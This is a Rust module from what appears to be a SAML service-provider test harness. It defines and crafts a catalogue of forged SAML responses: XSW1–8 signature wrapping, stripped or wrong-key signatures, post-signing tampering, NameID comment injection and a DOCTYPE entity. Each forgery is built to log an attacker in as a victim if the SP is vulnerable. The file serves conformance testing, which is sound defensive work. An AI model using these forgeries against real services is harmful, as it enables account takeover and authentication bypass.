//! The attack catalogue an SP's ACS must withstand (okta-saml §3): signature wrapping XSW1–8 as
//! SAML Raider numbers them, signature stripped, wrong certificate, tampering after signing,
//! comment injection in NameID, every time-window, audience, destination, recipient, issuer and
//! InResponseTo violation with an otherwise valid signature, two assertions, a non-success
//! status, a DOCTYPE with an entity, and SHA-1. Replay and InResponseTo reuse are flows, not
//! documents: the harness sends a valid response twice.
//!
//! Each case is crafted so that a correct SP refuses it, and so that a vulnerable SP would log
//! in the victim: the harness then reports who got logged in.

use time::{Duration, OffsetDateTime};

use super::dsig::SigAlg;
use super::idp::{IdpError, ResponseSpec, SamlApp, SamlUser, okta_id};
use super::keys::SigningKey;
use super::xml::{Element, NS_DS, NS_SAML, NS_SAMLP, Node, parse};

/// What accepting a case proves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackClass {
    /// Accepting it at all is the hole.
    Refuse,
    /// Signature wrapping: the document also holds a signed assertion for the attacker. An SP that
    /// accepts it but signs in that signed identity is not exploitable, though it should refuse.
    Wrapping,
    /// The signed identity is the attacker's own; only signing in another identity is a hole.
    SignedIdentity,
}

impl AttackClass {
    /// Whether an acceptance bound to the signed (attacker's) identity is tolerated.
    pub fn tolerates_signed_identity(self) -> bool {
        !matches!(self, AttackClass::Refuse)
    }
    /// Whether the case gets the `rfc-should` check that it is refused outright.
    pub fn binds_to_signed(self) -> bool {
        matches!(self, AttackClass::Wrapping)
    }
}

/// One case of the catalogue: its name (as features and reports spell it), what accepting it
/// proves, whether its grade is the SHA-1 policy's, what it sends, and how it is crafted.
pub struct AttackDef {
    /// The name features and reports use, e.g. `xsw3`.
    pub name: &'static str,
    /// What accepting it proves.
    pub class: AttackClass,
    /// Graded by `--sha1-policy` rather than as a MUST.
    pub sha1_policy: bool,
    /// What the case sends, for reports.
    pub describe: &'static str,
    /// Crafts the response XML.
    pub craft: fn(&AttackInput<'_>) -> Result<String, IdpError>,
}

impl std::fmt::Debug for AttackDef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name)
    }
}

impl PartialEq for AttackDef {
    fn eq(&self, other: &Self) -> bool {
        self.name == other.name
    }
}

/// The attack catalogue (okta-saml §3). Adding a case is one entry here plus its craft function;
/// `features/11_sso_attacks.feature`, the README and the check catalogue follow the table
/// (tests hold them to it).
pub static ATTACKS: &[AttackDef] = &[
    AttackDef {
        name: "xsw1",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "signed Response cloned into its own Signature; the outer Response, with a new ID, claims the victim",
        craft: |i| wrap_response(i, ResponseWrap::InsideSignature),
    },
    AttackDef {
        name: "xsw2",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "signed Response cloned before its Signature; the outer Response, with a new ID, claims the victim",
        craft: |i| wrap_response(i, ResponseWrap::BeforeSignature),
    },
    AttackDef {
        name: "xsw3",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "an unsigned Assertion for the victim inserted before the signed one",
        craft: |i| wrap_assertion(i, AssertionWrap::EvilBefore),
    },
    AttackDef {
        name: "xsw4",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "an unsigned Assertion for the victim wrapping the signed one",
        craft: |i| wrap_assertion(i, AssertionWrap::EvilAround),
    },
    AttackDef {
        name: "xsw5",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "the signed Assertion's position now claims the victim (new ID); an unsigned copy of the original at the end",
        craft: |i| wrap_assertion(i, AssertionWrap::OriginalAtEnd),
    },
    AttackDef {
        name: "xsw6",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "the signed Assertion's position now claims the victim (new ID); the original copied inside its Signature",
        craft: |i| wrap_assertion(i, AssertionWrap::OriginalInSignature),
    },
    AttackDef {
        name: "xsw7",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "an unsigned Assertion for the victim inside Extensions before the signed one",
        craft: |i| wrap_assertion(i, AssertionWrap::EvilInExtensions),
    },
    AttackDef {
        name: "xsw8",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "the Assertion now claims the victim; the original copied into a ds:Object of its Signature",
        craft: |i| wrap_assertion(i, AssertionWrap::OriginalInObject),
    },
    AttackDef {
        name: "signature-stripped",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "a valid response with every ds:Signature removed",
        craft: signature_stripped,
    },
    AttackDef {
        name: "wrong-certificate",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "signed with another key, whose certificate is in KeyInfo",
        craft: |i| spec(i, i.victim).to_xml(i.attacker_key),
    },
    AttackDef {
        name: "tampered-after-signing",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "the attacker's signed assertion with the NameID changed to the victim after signing",
        craft: tampered_after_signing,
    },
    AttackDef {
        name: "comment-injection",
        class: AttackClass::SignedIdentity,
        sha1_policy: false,
        describe: "NameID victim<!---->.evil.example signed for the attacker (CVE-2017-11427 family)",
        craft: comment_injection,
    },
    AttackDef {
        name: "expired",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed, issued an hour ago, every NotOnOrAfter in the past",
        craft: |i| {
            signed_victim(i, |s, now| {
                s.issue_instant = now - Duration::hours(1);
                s.not_before = now - Duration::minutes(65);
                s.not_on_or_after = now - Duration::minutes(55);
                s.subject_not_on_or_after = now - Duration::minutes(55);
            })
        },
    },
    AttackDef {
        name: "not-yet-valid",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed, Conditions NotBefore ten minutes in the future",
        craft: |i| signed_victim(i, |s, now| s.not_before = now + Duration::minutes(10)),
    },
    AttackDef {
        name: "subject-confirmation-expired",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed, SubjectConfirmationData NotOnOrAfter in the past",
        craft: |i| {
            signed_victim(i, |s, now| {
                s.subject_not_on_or_after = now - Duration::minutes(10)
            })
        },
    },
    AttackDef {
        name: "wrong-audience",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed for another SP's Audience",
        craft: |i| {
            signed_victim(i, |s, _| {
                s.audience = Some("https://evil.example/saml/metadata".into())
            })
        },
    },
    AttackDef {
        name: "no-audience",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed without an AudienceRestriction",
        craft: |i| signed_victim(i, |s, _| s.audience = None),
    },
    AttackDef {
        name: "wrong-destination",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed with another Destination",
        craft: |i| {
            signed_victim(i, |s, _| {
                s.destination = Some("https://evil.example/saml/acs".into())
            })
        },
    },
    AttackDef {
        name: "wrong-recipient",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed with another Recipient",
        craft: |i| {
            signed_victim(i, |s, _| {
                s.recipient = "https://evil.example/saml/acs".into()
            })
        },
    },
    AttackDef {
        name: "wrong-issuer",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "signed with the trusted key but naming another IdP as Issuer",
        craft: |i| {
            signed_victim(i, |s, _| {
                s.response_issuer = "http://www.okta.com/exkEVILevilEVILevil0".into();
                s.assertion_issuer = s.response_issuer.clone();
            })
        },
    },
    AttackDef {
        name: "in-response-to-mismatch",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed in response to an AuthnRequest the SP never sent",
        craft: |i| {
            signed_victim(i, |s, _| {
                let id = format!("id-never-issued-{}", okta_id());
                s.in_response_to = Some(id.clone());
                s.subject_in_response_to = Some(id.clone());
                s.session_index = id;
            })
        },
    },
    AttackDef {
        name: "two-assertions",
        class: AttackClass::Wrapping,
        sha1_policy: false,
        describe: "two validly signed assertions, the victim's and the attacker's",
        craft: two_assertions,
    },
    AttackDef {
        name: "non-success-status",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "validly signed with Status Responder",
        craft: |i| {
            signed_victim(i, |s, _| {
                s.status = "urn:oasis:names:tc:SAML:2.0:status:Responder".into()
            })
        },
    },
    AttackDef {
        name: "doctype",
        class: AttackClass::Refuse,
        sha1_policy: false,
        describe: "a DOCTYPE defining an entity that spells the victim's NameID",
        craft: doctype,
    },
    AttackDef {
        name: "sha1",
        class: AttackClass::Refuse,
        sha1_policy: true,
        describe: "a valid response signed with RSA-SHA1 and SHA-1 digests",
        craft: |i| signed_victim(i, |s, _| s.alg = SigAlg::RsaSha1),
    },
];

/// The case of this name.
pub fn attack_named(name: &str) -> Option<&'static AttackDef> {
    ATTACKS.iter().find(|a| a.name.eq_ignore_ascii_case(name))
}

/// What a case needs: the trusted IdP (app and key), an untrusted key, the victim and the
/// attacker (a legitimate user of the IdP who wants to become the victim).
pub struct AttackInput<'a> {
    /// The trusted IdP app.
    pub app: &'a SamlApp,
    /// The trusted IdP key.
    pub key: &'a SigningKey,
    /// A key the SP must not trust.
    pub attacker_key: &'a SigningKey,
    /// Whom the attacker wants to become.
    pub victim: &'a SamlUser,
    /// A legitimate user of the IdP: the attacker.
    pub attacker: &'a SamlUser,
    /// For SP-initiated flows: the AuthnRequest ID the SP issued.
    pub in_response_to: Option<&'a str>,
}

fn set_name_id(assertion: &mut Element, name_id: &str) {
    if let Some(subject) = assertion.child_mut(NS_SAML, "Subject")
        && let Some(n) = subject.child_mut(NS_SAML, "NameID")
    {
        n.set_text(name_id);
    }
    if let Some(stmt) = assertion.child_mut(NS_SAML, "AttributeStatement") {
        for attr in stmt.elements_mut() {
            if attr.attr("Name") == Some("email") {
                for v in attr.elements_mut() {
                    v.set_text(name_id);
                }
            }
        }
    }
}

fn remove_signatures(e: &mut Element) {
    e.children
        .retain(|n| !matches!(n, Node::Element(c) if c.is(NS_DS, "Signature")));
    for c in e.elements_mut() {
        remove_signatures(c);
    }
}

fn child_index(e: &Element, ns: &str, local: &str) -> Option<usize> {
    e.children
        .iter()
        .position(|n| matches!(n, Node::Element(c) if c.is(ns, local)))
}

fn assertion_node_index(resp: &Element) -> Option<usize> {
    child_index(resp, NS_SAML, "Assertion")
}

fn spec(input: &AttackInput<'_>, user: &SamlUser) -> ResponseSpec {
    ResponseSpec::for_user(input.app, user, input.in_response_to)
}

fn bad(msg: &str) -> IdpError {
    IdpError::Sign(msg.to_string())
}

/// The victim's own response, validly signed, with one thing changed.
fn signed_victim(
    input: &AttackInput<'_>,
    change: impl Fn(&mut ResponseSpec, OffsetDateTime),
) -> Result<String, IdpError> {
    let mut s = spec(input, input.victim);
    change(&mut s, OffsetDateTime::now_utc());
    s.to_xml(input.key)
}

fn signature_stripped(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let mut doc =
        parse(&spec(input, input.victim).to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    remove_signatures(&mut doc);
    Ok(doc.to_xml())
}

fn tampered_after_signing(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let mut doc =
        parse(&spec(input, input.attacker).to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let i = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    if let Node::Element(a) = &mut doc.children[i] {
        set_name_id(a, &input.victim.name_id);
    }
    Ok(doc.to_xml())
}

fn comment_injection(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let victim = input.victim;
    let mut attacker = input.attacker.clone();
    attacker.name_id = format!("{}.evil.example", victim.name_id);
    attacker.email = attacker.name_id.clone();
    let mut doc =
        parse(&spec(input, &attacker).to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let i = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    if let Node::Element(a) = &mut doc.children[i]
        && let Some(n) = a
            .child_mut(NS_SAML, "Subject")
            .and_then(|s| s.child_mut(NS_SAML, "NameID"))
    {
        n.children = vec![
            Node::Text(victim.name_id.clone()),
            Node::Comment(String::new()),
            Node::Text(".evil.example".into()),
        ];
    }
    Ok(doc.to_xml())
}

fn doctype(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let victim = input.victim;
    let xml = spec(input, victim).to_xml(input.key)?;
    let entity_name = "who";
    let escaped = super::xml::escape_text(&victim.name_id);
    let with_entity = xml.replacen(
        &format!(">{escaped}</saml2:NameID>"),
        &format!(">&{entity_name};</saml2:NameID>"),
        1,
    );
    Ok(format!(
        "<!DOCTYPE saml2p:Response [<!ENTITY {entity_name} \"{}\">]>{with_entity}",
        victim.name_id.replace('"', "&quot;")
    ))
}

fn two_assertions(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let key = input.key;
    let mut v = spec(input, input.victim);
    v.response_signed = false;
    v.assertion_signed = true;
    let mut a = spec(input, input.attacker);
    a.assertion_signed = true;
    let both = format!("{}{}", v.signed_assertion(key)?, a.signed_assertion(key)?);
    v.response_around(&both, key)
}

/// Where XSW1 and XSW2 put the unsigned copy of the signed Response.
#[derive(Clone, Copy)]
enum ResponseWrap {
    InsideSignature,
    BeforeSignature,
}

/// XSW1, XSW2: the Response is signed, the assertion not; the signature covers the whole Response.
fn wrap_response(input: &AttackInput<'_>, place: ResponseWrap) -> Result<String, IdpError> {
    let mut s = spec(input, input.attacker);
    s.response_signed = true;
    s.assertion_signed = false;
    let mut doc = parse(&s.to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let scope = doc.scope_at(&[]);
    let mut clone = doc.clone();
    remove_signatures(&mut clone);
    clone.materialize_namespaces(&scope);
    doc.set_attr("ID", &okta_id());
    let ai = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    if let Node::Element(a) = &mut doc.children[ai] {
        set_name_id(a, &input.victim.name_id);
        a.set_attr("ID", &okta_id());
    }
    let si = child_index(&doc, NS_DS, "Signature").ok_or_else(|| bad("no signature"))?;
    match place {
        ResponseWrap::InsideSignature => {
            if let Node::Element(sig) = &mut doc.children[si] {
                sig.children.push(Node::Element(clone));
            }
        }
        ResponseWrap::BeforeSignature => doc.children.insert(si, Node::Element(clone)),
    }
    Ok(doc.to_xml())
}

/// Where XSW3–XSW8 put the evil assertion and the signed original.
#[derive(Clone, Copy)]
enum AssertionWrap {
    EvilBefore,
    EvilAround,
    OriginalAtEnd,
    OriginalInSignature,
    EvilInExtensions,
    OriginalInObject,
}

/// XSW3–XSW8: the assertion is signed, the response not.
fn wrap_assertion(input: &AttackInput<'_>, place: AssertionWrap) -> Result<String, IdpError> {
    let victim = input.victim;
    let mut s = spec(input, input.attacker);
    s.response_signed = false;
    s.assertion_signed = true;
    let mut doc = parse(&s.to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let ai = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    let scope = doc.scope_at(&[doc
        .elements()
        .position(|e| e.is(NS_SAML, "Assertion"))
        .unwrap_or(0)]);
    let Node::Element(signed) = doc.children[ai].clone() else {
        return Err(bad("no assertion"));
    };
    let mut evil = signed.clone();
    remove_signatures(&mut evil);
    evil.materialize_namespaces(&scope);
    evil.set_attr("ID", &okta_id());
    set_name_id(&mut evil, &victim.name_id);
    let mut unsigned_original = signed.clone();
    remove_signatures(&mut unsigned_original);
    unsigned_original.materialize_namespaces(&scope);
    match place {
        AssertionWrap::EvilBefore => doc.children.insert(ai, Node::Element(evil)),
        AssertionWrap::EvilAround => {
            let mut wrapper = evil;
            let mut inner = signed;
            inner.materialize_namespaces(&scope);
            wrapper.children.push(Node::Element(inner));
            doc.children[ai] = Node::Element(wrapper);
        }
        AssertionWrap::OriginalAtEnd
        | AssertionWrap::OriginalInSignature
        | AssertionWrap::OriginalInObject => {
            let mut modified = signed;
            modified.set_attr("ID", &okta_id());
            set_name_id(&mut modified, &victim.name_id);
            let si =
                child_index(&modified, NS_DS, "Signature").ok_or_else(|| bad("no signature"))?;
            match place {
                AssertionWrap::OriginalAtEnd => {
                    doc.children[ai] = Node::Element(modified);
                    doc.children.push(Node::Element(unsigned_original));
                }
                AssertionWrap::OriginalInSignature => {
                    if let Node::Element(sig) = &mut modified.children[si] {
                        sig.children.push(Node::Element(unsigned_original));
                    }
                    doc.children[ai] = Node::Element(modified);
                }
                _ => {
                    if let Node::Element(sig) = &mut modified.children[si] {
                        let object = Element {
                            prefix: Some("ds".into()),
                            local: "Object".into(),
                            ns: Some(NS_DS.into()),
                            ns_decls: vec![(Some("ds".into()), NS_DS.into())],
                            attrs: vec![],
                            children: vec![Node::Element(unsigned_original)],
                        };
                        sig.children.push(Node::Element(object));
                    }
                    doc.children[ai] = Node::Element(modified);
                }
            }
        }
        AssertionWrap::EvilInExtensions => {
            let extensions = Element {
                prefix: Some("saml2p".into()),
                local: "Extensions".into(),
                ns: Some(NS_SAMLP.into()),
                ns_decls: vec![],
                attrs: vec![],
                children: vec![Node::Element(evil)],
            };
            doc.children.insert(ai, Node::Element(extensions));
        }
    }
    Ok(doc.to_xml())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::saml::xml::NS_SAML;

    fn user(n: &str) -> SamlUser {
        SamlUser {
            name_id: n.into(),
            email: n.into(),
            first_name: "F".into(),
            last_name: "L".into(),
            groups: vec![],
            custom: vec![],
        }
    }

    #[test]
    fn every_case_is_well_formed_xml_except_doctype_and_mentions_the_victim() {
        let app = SamlApp::new(
            "http://idp.test",
            "https://sp.test/acs",
            "https://sp.test/md",
        );
        let (key, other) = (SigningKey::test_fixture(), SigningKey::test_fixture_other());
        let (victim, attacker) = (user("alice@example.com"), user("mallory@example.com"));
        let input = AttackInput {
            app: &app,
            key: &key,
            attacker_key: &other,
            victim: &victim,
            attacker: &attacker,
            in_response_to: None,
        };
        for a in ATTACKS {
            let xml = (a.craft)(&input).unwrap_or_else(|e| panic!("{}: {e}", a.name));
            if a.name == "doctype" {
                assert!(parse(&xml).is_err());
                continue;
            }
            let doc = parse(&xml).unwrap_or_else(|e| panic!("{}: {e}\n{xml}", a.name));
            assert!(xml.contains("alice@example.com"), "{}", a.name);
            let assertions = doc.find_all(NS_SAML, "Assertion").len();
            let expected = if a.class == AttackClass::Wrapping {
                2
            } else {
                1
            };
            assert_eq!(assertions, expected, "{}", a.name);
            assert_eq!(attack_named(a.name), Some(a));
        }
    }
}
